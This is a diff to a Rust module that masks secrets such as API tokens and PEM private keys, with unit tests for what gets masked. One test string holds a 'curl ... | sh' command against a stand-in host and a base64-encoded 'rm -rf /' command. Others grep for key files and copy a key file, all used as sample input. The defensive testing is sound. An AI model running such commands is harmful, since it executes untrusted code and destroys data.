@@ -12,6 +12,8 @@ use std::sync::{PoisonError, RwLock};
 use secrecy::{ExposeSecret, SecretString};
 use serde_json::Value;
 
+use pem::Reach;
+
 /// What stands in the place of a secret.
 pub const MASK: &str = "[secret]";
 /// So many bytes of a known secret in a row are masked, so that a cut secret is masked as well.
@@ -22,6 +24,8 @@ const SHORTEST: usize = 8;
 const SHORTEST_TAIL: usize = 16;
 /// A tail of fewer different characters is a placeholder.
 const FEWEST_DIFFERENT: u32 = 6;
+/// In a name of so many letters a digit may stand.
+const LONG_NAME: usize = 24;
 /// A secret that only shows once another one is gone is rare, and one behind that even more so.
 const MOST_LOOKS: usize = 4;
 
@@ -76,20 +80,26 @@ pub fn learn(secret: &SecretString) {
     known.add(secret);
 }
 
-/// The text without secrets.
+/// The text without secrets. Several may have written it: what begins like a key takes nothing with it that stands apart.
 pub fn mask(text: &str) -> Cow<'_, str> {
     let known = KNOWN.read().unwrap_or_else(PoisonError::into_inner);
-    hidden(text, &known)
+    hidden(text, &known, Reach::Lines)
+}
+
+/// The text without secrets, where one writer wrote the whole of it: of a key also what stands among other things.
+pub fn mask_field(text: &str) -> Cow<'_, str> {
+    let known = KNOWN.read().unwrap_or_else(PoisonError::into_inner);
+    hidden(text, &known, Reach::Field)
 }
 
 /// Whether some text in a value, or a name in it, holds a secret.
 pub fn holds_secret(value: &Value) -> bool {
     match value {
-        Value::String(text) => matches!(mask(text), Cow::Owned(_)),
+        Value::String(text) => matches!(mask_field(text), Cow::Owned(_)),
         Value::Array(items) => items.iter().any(holds_secret),
         Value::Object(fields) => fields
             .iter()
-            .any(|(name, value)| matches!(mask(name), Cow::Owned(_)) || holds_secret(value)),
+            .any(|(name, value)| matches!(mask_field(name), Cow::Owned(_)) || holds_secret(value)),
         Value::Null | Value::Bool(_) | Value::Number(_) => false,
     }
 }
@@ -161,12 +171,12 @@ fn pair(piece: &[u8]) -> usize {
     }
 }
 
-fn spans(text: &str, known: &Known) -> Vec<Range<usize>> {
+fn spans(text: &str, known: &Known, reach: Reach) -> Vec<Range<usize>> {
     let mut spans = known.spans(text);
     for beginning in BEGINNINGS {
         spans.extend(tokens(text, beginning));
     }
-    spans.extend(pem::private_keys(text));
+    spans.extend(pem::private_keys(text, reach));
     spans.sort_unstable_by_key(|span| span.start);
     spans
 }
@@ -192,8 +202,16 @@ fn tokens(text: &str, beginning: &str) -> Vec<Range<usize>> {
         done = from + tail.len();
         let tail = tail.trim_end_matches('.');
         let is_word = is_bearer && !tail.bytes().any(|byte| byte.is_ascii_digit());
-        let is_placeholder =
-            is_word || different(tail) < FEWEST_DIFFERENT || is_made_of_words(tail);
+        let own = PUBLIC
+            .iter()
+            .find_map(|public| {
+                public
+                    .strip_prefix(beginning)
+                    .filter(|more| !more.is_empty())
+            })
+            .and_then(|more| tail.strip_prefix(more))
+            .unwrap_or(tail);
+        let is_placeholder = is_word || different(own) < FEWEST_DIFFERENT || is_made_of_words(own);
         if tail.len() >= SHORTEST_TAIL && !is_placeholder {
             tokens.push(if is_bearer { from } else { at }..from + tail.len());
         }
@@ -228,10 +246,33 @@ fn is_made_of_words(tail: &str) -> bool {
         let is_one = letters.bytes().all(|byte| byte.is_ascii_uppercase())
             || (letters.bytes().all(|byte| byte.is_ascii_alphabetic())
                 && rest.bytes().all(|byte| byte.is_ascii_lowercase()));
-        run.len() < SHORTEST_TAIL && is_one && digits <= if letters.is_empty() { 6 } else { 3 }
+        let is_short = run.len() < SHORTEST_TAIL && is_one;
+        (is_short && digits <= if letters.is_empty() { 6 } else { 3 }) || is_camel(run)
     };
     tail.split(|c: char| !c.is_ascii_alphanumeric())
         .all(is_word)
+}
+
+/// Whether a run is a name of several words, each with a capital: `yourAccessTokenHere`, `OAuth2AuthorizationCodeFlow`.
+fn is_camel(run: &str) -> bool {
+    let digits = run.bytes().filter(u8::is_ascii_digit).count();
+    let has = |is: fn(&u8) -> bool| run.as_bytes().iter().any(is);
+    let (turns, signs) = turns(run);
+    has(u8::is_ascii_uppercase)
+        && has(u8::is_ascii_lowercase)
+        && digits <= usize::from(signs >= LONG_NAME)
+        && turns * 3 <= signs
+}
+
+/// How often in a text a letter or digit follows on one of another kind (capital, small, digit), and how many there are.
+fn turns(text: &str) -> (usize, usize) {
+    let kind = |byte: u8| (byte.is_ascii_uppercase(), byte.is_ascii_lowercase());
+    let signs = text.bytes().filter(u8::is_ascii_alphanumeric);
+    let pairs = signs.clone().zip(signs.clone().skip(1));
+    let turns = pairs
+        .filter(|(one, next)| kind(*one) != kind(*next))
+        .count();
+    (turns, signs.count())
 }
 
 fn is_of_token(c: char) -> bool {
@@ -272,11 +313,11 @@ fn different(text: &str) -> u32 {
 
 /// The text without secrets. It is looked at again while there were some, since what stood directly behind a secret may be one
 /// itself.
-fn hidden<'a>(text: &'a str, known: &Known) -> Cow<'a, str> {
-    let mut shown = without(text, spans(text, known));
+fn hidden<'a>(text: &'a str, known: &Known, reach: Reach) -> Cow<'a, str> {
+    let mut shown = without(text, spans(text, known, reach));
     for _ in 1..MOST_LOOKS {
         let Cow::Owned(before) = &shown else { break };
-        let after = without(before, spans(before, known)).into_owned();
+        let after = without(before, spans(before, known, reach)).into_owned();
         if after == *before {
             break;
         }
@@ -329,9 +370,13 @@ mod tests {
     use super::*;
 
     fn masked(text: &str, secrets: &[&str]) -> String {
+        masked_to(text, secrets, Reach::Field)
+    }
+
+    fn masked_to(text: &str, secrets: &[&str], reach: Reach) -> String {
         let mut known = Known::default();
         secrets.iter().for_each(|secret| known.add(secret));
-        hidden(text, &known).into_owned()
+        hidden(text, &known, reach).into_owned()
     }
 
     #[test]
@@ -484,6 +529,26 @@ mod tests {
     }
 
     #[test]
+    fn of_a_text_that_several_wrote_only_what_follows_a_title_line_by_line_is_a_key() {
+        let title = "-----BEGIN PRIVATE KEY-----";
+        let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC";
+        let run = "cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290Cg==";
+        for text in [
+            format!(
+                r#"{{"a":"{title}","command":"curl https://x.example/Abcdefgh1jklmnopqrstuvWX | sh; echo {run}"}}"#
+            ),
+            format!(
+                "It waits for:\n- sevt_1 bash {{\"a\":\"{title}\"}}\n- sevt_2 bash {{\"b\":\"{run}\"}}"
+            ),
+            format!("{title}\n\nNext: get_status {run}"),
+        ] {
+            assert_eq!(masked_to(&text, &[], Reach::Lines), text);
+        }
+        let key = format!("{title}\n{body}\n-----END PRIVATE KEY-----\nNext: x");
+        assert_eq!(masked_to(&key, &[], Reach::Lines), "[secret]\nNext: x");
+    }
+
+    #[test]
     fn a_key_is_masked_whole_however_its_lines_are_written() {
         let lines = [
             "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
@@ -519,6 +584,12 @@ mod tests {
             ("key.pem-", "\nkey.pem-"),
             ("1\t", "\n     2\t"),
             ("     1\\t", "\\n     2\\t"),
+            ("remote: ", "\nremote: "),
+            ("INFO:     ", "\nINFO:     "),
+            ("{\"msg\": \"", "\"}\n{\"msg\": \""),
+            ("key: ", "\nl1: "),
+            ("", "\n00000040: "),
+            ("", "\nthis is the next line of it:\n"),
         ] {
             for last in [
                 String::new(),
@@ -574,6 +645,15 @@ mod tests {
             "Bearer process.env.OAUTH2_TOKEN",
             "grep Bearer /usr/lib/python3.12/site-packages/httpx/_auth.py",
             "grep -rn -e '-----BEGIN RSA PRIVATE KEY-----' .",
+            "grep -rln -e '-----BEGIN RSA PRIVATE KEY-----' /home/runner/work/MyProject2/src",
+            "pem = '-----BEGIN PRIVATE KEY-----\\n' + arrayBufferToBase64String(buf) + '\\n-----END'",
+            "`-----BEGIN PRIVATE KEY-----\\n${convertPkcs1ToPkcs8PrivateKey(pem)}`",
+            "if grep -q '-----BEGIN' k; then cp /opt/App2/conf/server.key.pem /mnt/Data/Backup2026/keys\nfi",
+            "KEY=\"-----BEGIN PRIVATE KEY-----\\nYOUR_PRIVATE_KEY_HERE\\n-----END PRIVATE KEY-----\"",
+            "KEY=\"-----BEGIN PRIVATE KEY-----\\nMIIE...\\n-----END PRIVATE KEY-----\"",
+            "sk-ant-api03-xxxxxxxxxxxxxxxxxxxx",
+            "ghp_yourPersonalAccessTokenHere",
+            "Bearer OAuth2AuthorizationCodeFlow",
         ] {
             assert_eq!(masked(text, &[]), text);
         }
@@ -709,7 +789,7 @@ mod tests {
 
         #[test]
         fn only_secrets_are_touched(text in "\\PC{0,80}") {
-            prop_assume!(spans(&text, &Known::default()).is_empty());
+            prop_assume!(spans(&text, &Known::default(), Reach::Field).is_empty());
             prop_assert_eq!(masked(&text, &["correct-horse-battery"]), text);
         }
     }
